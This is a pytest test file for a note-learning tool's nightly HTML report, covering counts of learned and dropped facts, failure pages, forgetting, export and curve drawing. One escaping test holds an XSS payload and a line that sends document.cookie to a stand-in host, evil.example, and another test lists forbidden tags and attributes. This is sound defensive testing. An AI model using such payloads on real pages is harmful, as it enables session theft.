"""Every night leaves a page that opens by itself: what it learned, what it left out, and why."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from selectolax.lexbor import LexborHTMLParser

import asgi
import made_report
from made_report import Made
from nightschool import cycle
from nightschool.cli import main
from nightschool.clock import SystemClock
from nightschool.config import Forget
from nightschool.errors import NotFound, Refused, StoreError, TooLittle, TrainError
from nightschool.pairs.synthesize import write_pairs
from nightschool.paths import EXAMS, Home
from nightschool.records import Outcome, PairKind, Split
from nightschool.registry import archive, erase, forget, moving
from nightschool.report import drawing, shelf, view, words
from nightschool.store import documents, pairs, reports, runs
from nightschool.store.db import open_store

NOW = Forget(grace_s=3600)


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home after one night; tests work on copies."""
    root = tmp_path_factory.mktemp("reports")
    store = open_store(Home(root / "home").create().database)
    made_report.make(root, store).night()
    store.close()
    return root


@pytest.fixture
def place(kept: Path, tmp_path: Path) -> Iterator[Made]:
    shutil.copytree(kept, tmp_path, dirs_exist_ok=True)
    store = open_store(tmp_path / "home" / "nightschool.db")
    with store.transaction() as db:
        db.execute("UPDATE root SET path=?", (str(tmp_path / "notes"),))
    yield Made(Home(tmp_path / "home"), store, tmp_path / "notes")
    store.close()


def page(place: Made, number: int = 1) -> LexborHTMLParser:
    """The page of a night as it lies there."""
    return LexborHTMLParser(shelf.place(place.home, number).read_text(encoding="utf-8"))


def text(tree: LexborHTMLParser) -> str:
    assert tree.body is not None
    return " ".join(tree.body.text(separator=" ").split())


# -- the page ------------------------------------------------------------------------------------


def test_the_page_needs_nothing_from_elsewhere_and_runs_nothing(place: Made) -> None:
    tree = page(place)
    for tag in ("script", "img", "link", "iframe", "object", "embed", "base", "a", "form", "audio"):
        assert not tree.css(tag), tag
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            assert not name.startswith("on"), node.html
            assert name not in ("src", "href", "srcset", "style", "action", "xlink:href"), node.html
            assert "://" not in (value or ""), node.html
    (style,) = tree.css("style")
    assert "url(" not in style.text() and "@import" not in style.text()
    policy = tree.css_first("meta[http-equiv]").attributes["content"]
    assert policy is not None and "default-src 'none'" in policy and "script" not in policy
    assert "prefers-color-scheme: dark" in style.text()


def test_hostile_notes_are_shown_as_the_text_that_they_are(place: Made) -> None:
    said = text(page(place))
    assert "<img src=x onerror=alert(1)" in said, "the note's answer is shown, not drawn"
    assert "fetch('http://evil.example/?'+document.cookie)" in said
    assert "{{ view }} {% raw %}" in said, "and no template is made of it"
    assert "<b>shelf</b>" in said, "so is what a model said"


def test_the_page_tells_all_that_a_night_did(place: Made) -> None:
    run = runs.run(place.store, 1)
    assert run is not None and run.scorecard is not None and run.outcome is Outcome.PROMOTED
    tree, said = page(place), text(page(place))
    for reason in run.scorecard["reasons"]:
        assert reason in said
    for figure in run.scorecard["figures"]:
        assert figure["name"] in said and figure["bound"] in said
    assert len(tree.css("svg.interval")) == sum(f["unit"] == "points" and f["low"] is not None
                                                for f in run.scorecard["figures"])  # fmt: skip
    assert len(tree.css_first("polyline.smooth").attributes["points"].split()) == drawing.POINTS
    for name in ("notes/go.md", "notes/House/boat.md"):
        assert name in said
    assert "Version 1 passed its exams and is served." in said
    assert "at 0.95 of the adapter's strength" in said
    assert run.plan["hypothesis"][1:] in said


def test_what_was_learned_is_counted_by_file_with_its_questions(place: Made) -> None:
    found = view.gather(place.home, place.store, 1)
    learned = {item["name"]: item for item in found["learned"]}
    go = learned["notes/go.md"]
    assert {fact["answer"] for fact in go["facts"]} >= {"41 metres", "Ottilie Vandersmyth"}
    assert sum(len(item["facts"]) for item in learned.values()) >= found["facts"]["learned"]
    stored = pairs.all_pairs(place.store, split=Split.TRAIN, kind=PairKind.CLOSED)
    assert 0 < found["forms"]["closed"] <= len(stored)


def test_what_was_left_out_is_named_counted_and_has_its_reason(place: Made) -> None:
    found = view.gather(place.home, place.store, 1)
    dropped = {item["reason"]: item for item in found["dropped"]}
    capped = dropped["more than the file's share"]
    assert [file["name"] for file in capped["files"]] == ["notes/long.md"]
    assert capped["facts"] == 63 - 40 and capped["pairs"] == capped["tonight"] > capped["facts"]
    assert capped["examples"][0]["name"] == "notes/long.md" and capped["examples"][0]["question"]
    torn = dropped["same question, two answers"]
    assert {file["name"] for file in torn["files"]} == {
        "notes/copies/shed 1.md", "notes/copies/shed 2.md",
    }  # fmt: skip
    assert {example["answer"] for example in torn["examples"]} == {"17", "18"}
    assert not dropped["redacted or secret-like"]["examples"], "what looks like a secret stays out"
    why = {item["reason"]: item for item in found["left_out"]}
    german = why["not in a language that is practised (learn.languages): de"]
    assert [file["name"] for file in german["files"]] == ["notes/werkzeug.md"]
    said = text(page(place))
    assert all(reason in said for reason in (*dropped, *why))


def test_facts_that_do_not_fit_and_crowds_are_counted_by_file(place: Made) -> None:
    place.night(facts=30)
    (full,) = [
        item
        for item in view.gather(place.home, place.store, 2)["left_out"]
        if "budget" in item["reason"]
    ]
    first, second = (view.gather(place.home, place.store, n)["facts"] for n in (1, 2))
    assert 25 < second["learned"] <= 30
    assert full["facts"] == second["available"] - second["learned"]
    assert first["available"] == second["available"]
    assert sum(file["count"] for file in full["files"]) <= full["facts"]
    written = view.gather(place.home, place.store, 2)["written"]
    assert written["files"] == 0, "nothing was new"
    assert "no questions were written this night" in text(page(place, 2))


def test_samples_are_drawn_by_lot_of_every_kind_and_counted_over_all(place: Made) -> None:
    told = view.gather(place.home, place.store, 1)
    found, marks = told["samples"], told["exams"]["subjects"][-1]["marks"]
    kinds = {(item["probe"], words.change(item)) for item in found["items"]}
    for probe, counts in found["counts"].items():
        assert {kind for kind, count in counts.items() if count} == {
            kind for of, kind in kinds if of == probe
        }
        assert sum(counts.values()) == marks[probe][1]
    for item in found["items"]:
        assert item["right_after"] == (item["after"] == item["answer"])
    again = place.night()
    same = view.gather(place.home, place.store, again)["samples"]
    assert [i["question"] for i in same["items"]] == [i["question"] for i in found["items"]]


# -- every ending --------------------------------------------------------------------------------


def test_every_outcome_has_its_words() -> None:
    for outcome in Outcome:
        tone, word, sentence = words.ending({"outcome": outcome.value, "before": 2, "version": 3})
        assert tone and word and "{" not in sentence


def test_a_night_that_fails_leaves_its_page_with_the_loss_until_then(place: Made) -> None:
    diary, _, _ = place.begin(seed=7)
    checkpoint = place.home.runs / str(diary.run_id) / "checkpoint"
    checkpoint.mkdir()
    state = {"losses": [5.0, 4.0, float("nan"), 3.0]}
    (checkpoint / "state.json").write_text(json.dumps(state))
    assert view.gather(place.home, place.store, diary.run_id)["curve"]["losses"][:2] == [5.0, 4.0]

    def work() -> Any:
        raise TrainError("The loss became nan at step 5.", "The next plan learns more slowly.")

    with pytest.raises(TrainError):
        cycle._guarded(place.home, place.store, diary.run_id, SystemClock(), work, diary)
    assert not checkpoint.exists()
    said = text(page(place, diary.run_id))
    assert "Failed Practice ended in numbers that are none: version 0" not in said
    assert "The loss became nan at step 5." in said and "from 5 to 3" in said
    assert "notes/go.md" in said


def test_a_report_that_cannot_be_written_changes_nothing_of_the_night(
    place: Made, caplog: pytest.LogCaptureFixture
) -> None:
    diary, _, _ = place.begin(seed=7)
    folder = shelf.place(place.home, diary.run_id).parent
    if folder.is_dir():
        shutil.rmtree(folder)
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.write_text("a file lies where the night's folder would be", "utf-8")
    done = cycle.Night(Outcome.HELD, "held", diary.run_id)
    found = cycle._guarded(
        place.home, place.store, diary.run_id, SystemClock(), lambda: done, diary
    )
    assert found is done
    assert "could not be written" in caplog.text


def test_a_night_that_ends_at_any_moment_before_it_began_leaves_a_page(place: Made) -> None:
    early = made_report.Diary(place.home, place.store)
    early.failed_early(Refused("This model cannot learn.", "Choose another."))
    assert "This model cannot learn. Choose another." in text(page(place, 0))
    later = made_report.Diary(place.home, place.store)
    later.wrote(write_pairs(place.store, [], None, None), place.config)
    later.failed_early(TooLittle("The budget is not worth one.", "Give more minutes."))
    said = text(page(place, 0))
    assert "The budget is not worth one." in said and "This model cannot learn" not in said
    assert "notes/werkzeug.md" in said, "what is left out is known already"


def test_a_night_that_finds_too_little_says_how_many_files_are_missing(
    place: Made, capsys: pytest.CaptureFixture[str]
) -> None:
    diary = made_report.Diary(place.home, place.store)
    diary.body = {"facts": {"readable": 4, "learned": 2, "available": 2, "files": 2, "least": 8,
                            "missing": 6, "more_files": 12}}  # fmt: skip
    diary.failed_early(TooLittle("Only 2 facts could be found.", "Watch more notes."))
    assert shelf.newest(place.store) == 0
    said = text(page(place, 0))
    assert "Too little" in said and "Only 2 facts could be found. Watch more notes." in said
    assert "6 facts are missing: 8 are the least" in said
    assert "About 12 more files like these would do." in said
    with pytest.raises(SystemExit) as ended:
        main.run(["--home", str(place.home.root), "report"])
    out = capsys.readouterr().out
    assert ended.value.code == 0 and "A night that did not begin: too little." in out
    assert str(shelf.place(place.home, 0)) in out
    assert [run.id for run in runs.runs(place.store)] == [1], "it is no night"


# -- the doors -----------------------------------------------------------------------------------


def test_the_command_names_the_page_and_makes_a_missing_one_again(
    place: Made, capsys: pytest.CaptureFixture[str]
) -> None:
    path = shelf.place(place.home, 1)
    before = path.read_bytes()
    path.unlink()
    with pytest.raises(SystemExit) as ended:
        main.run(["--home", str(place.home.root), "report", "1", "--json"])
    told = json.loads(capsys.readouterr().out)
    assert ended.value.code == 0 and told["path"] == str(path)
    assert (told["run"], told["outcome"]) == (1, "promoted")
    assert path.read_bytes() == before
    with pytest.raises(SystemExit) as ended:
        main.run(["--home", str(place.home.root), "report", "7"])
    assert ended.value.code == NotFound.exit_code
    assert "There is no night 7" in capsys.readouterr().err


def test_the_route_tells_the_same_to_the_owner_alone_and_writes_nothing(place: Made) -> None:
    shelf.place(place.home, 1).unlink()

    class Service:
        async def report(self, number: int | None, *, page: bool) -> dict[str, Any]:
            return shelf.tell(place.home, place.store, number, page=page)

    door = asgi.Door(service=Service())
    said = asgi.play(lambda: door.ask("GET", "/ns/report", asgi.good(), query=b"page=yes"))
    assert said.status == 200 and said.json["run"] == 1
    assert said.json["page"].lstrip().startswith("<!doctype html>")
    assert not shelf.place(place.home, 1).exists()
    stranger = asgi.play(lambda: door.ask("GET", "/ns/report", [(b"host", asgi.HOST)]))
    assert stranger.status == 401


# -- forgetting, moving --------------------------------------------------------------------------


def go(place: Made) -> int:
    root = documents.roots(place.store)[0]
    found = documents.by_path(place.store, root.id, "go.md")
    assert found is not None
    return found.id


def test_a_forgotten_file_leaves_every_report_and_no_byte_of_it_stays(place: Made) -> None:
    other = place.night(seed=9)  # a second night that saw it
    words_of_it = [b"Vandersmyth", b"Zandvoort", made_report.SECRET_WORD.encode()]
    for number in (1, other):
        assert all(word in shelf.place(place.home, number).read_bytes() for word in words_of_it)
    forget.asked(place.home, place.store, [go(place)], "go.md", NOW)
    for number in (1, other):
        assert not shelf.place(place.home, number).exists(), "a page that names it goes at once"
        told = json.dumps(shelf.tell(place.home, place.store, number, page=True))
        assert "go.md" not in told and not any(word.decode() in told for word in words_of_it)
        assert not reports.samples(place.store, number), "what a version said that saw it goes"
    shelf.look(place.home, place.store, 1)
    (place.home.runs / "1" / EXAMS).write_bytes(words_of_it[0])  # of a night that was broken off
    erase.vacuum(place.home, place.store, now=True)
    for path in place.home.root.rglob("*"):
        data = path.read_bytes() if path.is_file() else b""
        assert not any(word in data for word in words_of_it), path
        assert path.name != shelf.PAGE or b"go.md" not in data


def test_what_was_dropped_of_a_forgotten_file_goes_with_it(place: Made) -> None:
    root = documents.roots(place.store)[0]
    long = documents.by_path(place.store, root.id, "long.md")
    assert long is not None
    lost = reports.dropped(place.store)
    assert any(row["document_id"] == long.id and row["examples"] for row in lost)
    (place.folder / "long.md").unlink()
    place.sync()
    assert all(row["document_id"] != long.id for row in reports.dropped(place.store))
    told = json.dumps(shelf.tell(place.home, place.store, 1, page=True))
    assert "long.md" not in told and "valve" not in told.lower()
    erase.vacuum(place.home, place.store, now=True)
    assert all(b"valve E" not in p.read_bytes() for p in place.home.root.rglob("*") if p.is_file())


def test_nothing_is_forgotten_on_a_stick_that_was_pulled_while_its_pages_name_it(
    place: Made, tmp_path: Path
) -> None:
    number = go(place)
    away = tmp_path / "pulled"
    place.home.root.rename(away)  # the open database can still be written
    with pytest.raises(StoreError, match="not there any more"):
        forget.asked(place.home, place.store, [number], "go.md", NOW)
    open_store(place.home.database).close()  # a home that somebody began where the stick had been
    with pytest.raises(StoreError, match="not there any more"):
        forget.asked(place.home, place.store, [number], "go.md", NOW)
    shutil.rmtree(place.home.root)
    away.rename(place.home.root)
    assert go(place) == number
    forget.asked(place.home, place.store, [number], "go.md", NOW)
    assert not shelf.place(place.home, 1).exists()


def test_an_edit_takes_along_what_was_dropped_of_the_old_text(place: Made) -> None:
    place.write("long.md", "# Valves\n\nThey were all sold to Quentin.\n")
    place.sync()
    assert "bay E" not in json.dumps(shelf.tell(place.home, place.store, 1, page=True))


def test_a_file_that_is_forgotten_while_the_night_ends_is_in_no_sample(place: Made) -> None:
    diary, lessons, _ = place.begin(seed=5)
    made = reports.Sample(lessons.asked["recall"][0], "recall", "x", "Vandersmyth", False, False)
    diary.samples.append(made)
    forget.asked(place.home, place.store, [go(place)], "go.md", NOW)
    diary.close()
    assert not reports.samples(place.store, diary.run_id)


def test_reports_go_along_with_an_export(place: Made, tmp_path: Path) -> None:
    before = shelf.tell(place.home, place.store, 1, page=True)["page"]
    archive.export(place.home, place.store, tmp_path / "out.tar")
    second = Home(tmp_path / "second").create()
    moving.take_in(second, tmp_path / "out.tar")
    store = open_store(second.database)
    path, _ = shelf.look(second, store, 1)
    store.close()
    assert path.is_relative_to(second.root) and path.read_text(encoding="utf-8") == before


# -- drawings ------------------------------------------------------------------------------------


def test_a_curve_is_drawn_of_any_numbers() -> None:
    assert drawing.curve([]) is None and drawing.curve([1.0, None]) is None
    for losses in ([2.0, 1.0], [0.0, 0.0, 0.0], [1e-9] * 9, [1e6, None, 3.0] * 500):
        found = drawing.curve(losses)
        assert found is not None
        for spot in f"{found.raw} {found.smooth}".split():
            x, y = map(float, spot.split(","))
            assert drawing.LEFT - 1 <= x <= drawing.WIDTH and 0 <= y <= drawing.HEIGHT
